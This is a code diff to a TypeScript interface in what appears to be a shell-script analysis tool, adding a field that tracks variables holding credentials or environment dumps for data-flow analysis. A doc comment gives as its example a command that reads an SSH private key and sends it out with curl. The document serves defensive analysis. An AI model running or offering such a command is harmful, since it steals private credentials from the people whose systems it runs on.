@@ -56,6 +56,12 @@ export interface Word {
    * that what it writes can be filled in where wren can work that out (`"$(echo ${x:-~})"/`).
    */
   outputs?: (Script | null)[];
+  /**
+   * The scripts whose output a variable in the word holds, where that output is a credential or a
+   * dump of the environment (`k=$(cat ~/.ssh/id_rsa); curl -d "$k" …`): `data-flow.ts` follows them
+   * as the word's substitutions, but they do not run again where the word is used.
+   */
+  held?: Script[];
   /** A here-string's word (`<<< word`): the shell feeds it with a newline after it. A here-document's text ends with its own. */
   hereString?: boolean;
 }
